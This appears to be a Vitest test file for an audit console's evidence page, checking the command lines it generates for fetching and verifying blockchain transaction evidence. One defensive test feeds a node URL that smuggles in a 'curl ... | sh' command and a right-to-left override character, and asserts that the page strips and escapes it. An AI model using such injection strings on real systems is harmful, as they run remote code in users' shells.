import { render, screen, waitFor } from '@testing-library/react';
import { id as keccakOfText } from 'ethers';
import { MemoryRouter } from 'react-router';
import { beforeEach, describe, expect, it } from 'vitest';
import type { TransactionDetail } from '../../api/types';
import { interfaceOf, type ContractName } from '../../chain/contracts';
import { FakeChain, zero } from '../../chain/testing';
import { Around } from '../../shell/testingPages';
import EvidencePage from '../EvidencePage';

const ID = `0x${'3c'.repeat(32)}`;
const PRESENT = `0x${'Aa'.repeat(20)}`;
const FORMER = `0x${'77'.repeat(20)}`;
const [REGISTRY, COURT] = [keccakOfText('registry'), keccakOfText('court')];

/** A transaction of others, as the server tells it: opened under version 4 of a pipeline that is at version 9. */
const transaction: TransactionDetail = {
  id: ID,
  initiator: REGISTRY,
  initiatorCode: 'registry',
  status: 'SETTLED',
  openedAt: 1,
  deadline: 2,
  pipelines: [4],
  retries: 0,
  rejections: 0,
  steps: [
    {
      index: 1,
      pipeline: { number: 4, path: 'registry/evidence-sharing' },
      side: 'TARGET',
      responsible: { id: COURT, code: 'court' },
      verifier: { id: REGISTRY, code: 'registry' },
      subchain: keccakOfText('court/evidence-chain'),
      write: true,
      outcome: 'SUCCEEDED',
      outcomeDigest: `0x${'5b'.repeat(32)}`,
      verdict: 'ACCEPTED',
      compensation: 'NONE',
    },
  ],
  timeline: [],
  deadlinePassed: false,
  workOrders: [],
};

/** A struct of the chain with what matters told, and zeros otherwise. */
function struct(contract: ContractName, view: string, told: Record<string, unknown>) {
  const shape = interfaceOf(contract).getFunction(view)?.outputs[0]?.components ?? [];
  return [shape.map(part => told[part.name] ?? zero(part))];
}

function side(institution: string, service: string, contract: string) {
  const word = `0x${'00'.repeat(32)}`;
  return [keccakOfText(institution), word, keccakOfText(service), word, keccakOfText(contract), []];
}

const chain = () =>
  new FakeChain({
    'Pipelines.pipelineByNumber': number =>
      struct('Pipelines', 'pipelineByNumber', {
        number,
        source: side('registry', 'registry/crosschain-proxy', 'registry/deeds'),
        target: side('court', 'court/gateway', number === 4n ? 'court/former' : 'court/present'),
        status: 2,
      }),
    'Institutions.codeOf': id => [id === COURT ? 'court' : 'registry'],
    'Services.service': id =>
      struct('Services', 'service', {
        code: id === keccakOfText('court/gateway') ? 'gateway' : 'crosschain-proxy',
      }),
    'Subchains.businessContract': id =>
      struct('Subchains', 'businessContract', {
        contractAddress: id === keccakOfText('court/former') ? FORMER : PRESENT,
        status: 1,
      }),
  });

/** The console of an auditor: it has no proxy, or one of an institution that takes no part. */
function serve(proxy: { service: string } | undefined, anchors: object) {
  const node = chain();
  globalThis.fetch = (async (path: string, init?: RequestInit) => {
    if (path === '/v1/rpc') {
      const asked = [JSON.parse(init?.body as string)].flat() as {
        id: number;
        method: string;
        params: unknown[];
      }[];
      const all = asked.map(async ({ id, method, params }) => ({
        id,
        result: await node.send(method, params),
      }));
      return new Response(JSON.stringify(await Promise.all(all)));
    }
    const record = { id: '0x1', label: 'court/evidence-chain', chainId: 8601, trustAnchors: anchors };
    const answer = path.startsWith('/v1/transactions/')
      ? transaction
      : path.startsWith('/v1/records/subchains/')
        ? { record, related: [], history: [] }
        : path.startsWith('/v1/network')
          ? { chainId: 1, name: 'Test', environment: 'test', proxy }
          : { items: [] };
    return new Response(JSON.stringify(answer));
  }) as typeof fetch;
}

const SEALS = { validators: [`0x${'1f'.repeat(20)}`] };

async function lines(proxy?: { service: string }, anchors: object = SEALS): Promise<string[]> {
  serve(proxy, anchors);
  const { container } = render(
    <MemoryRouter initialEntries={[`/audit/evidence?transaction=${ID}`]}>
      <EvidencePage />
    </MemoryRouter>,
    { wrapper: Around },
  );
  const all = () =>
    [...container.querySelectorAll('pre')].map(each => each.textContent.replaceAll(' \\\n    ', ' '));
  await waitFor(() => expect(all().join()).toContain('court/gateway'), { timeout: 20_000 });
  await waitFor(() => expect(all().join()).toContain('--chain-id 8601'), { timeout: 20_000 });
  await screen.findAllByRole('button');
  return all();
}

describe('commands for a step’s evidence', () => {
  beforeEach(() => localStorage.clear());

  it('take it from the responsible party, as an auditor without a proxy can', async () => {
    const fetches = (await lines()).filter(each => each.includes('evidence fetch'));
    expect(fetches[0]).toContain('--service court/gateway --auditor-keystore');
    expect(fetches[1]).toContain('--certificate');
  }, 60_000);

  it('name the step’s party where the console has a proxy of others', async () => {
    const all = (await lines({ service: 'notary/crosschain-proxy' })).join();
    expect(all).toContain('--service court/gateway');
    expect(all).not.toContain('notary');
  }, 60_000);

  it('compare the contract of the version that the step was opened under, as the page does', async () => {
    const verify = (await lines()).find(each => each.includes('evidence verify'));
    expect(verify).toContain(`--step 1 --action execute --contract ${FORMER} --chain-id 8601`);
  }, 60_000);

  it('leave out a node’s URL that would run in the reader’s shell, and say so', async () => {
    const told = 'http://10.0.0.7:8545;curl -s http://192.0.2.1/x|sh;\u202e#';
    const verify = (await lines(undefined, { rpcUrls: [told] })).find(each =>
      each.includes('evidence verify'),
    );
    expect(verify).toMatch(/ --node https:\/\/\.\.\.$/);
    const [note] = screen.getAllByRole('note');
    expect(note?.querySelector('bdi')?.textContent).toBe(
      '“http://10.0.0.7:8545;curl -s http://192.0.2.1/x|sh;\\u{202e}#”',
    );
  }, 60_000);
});
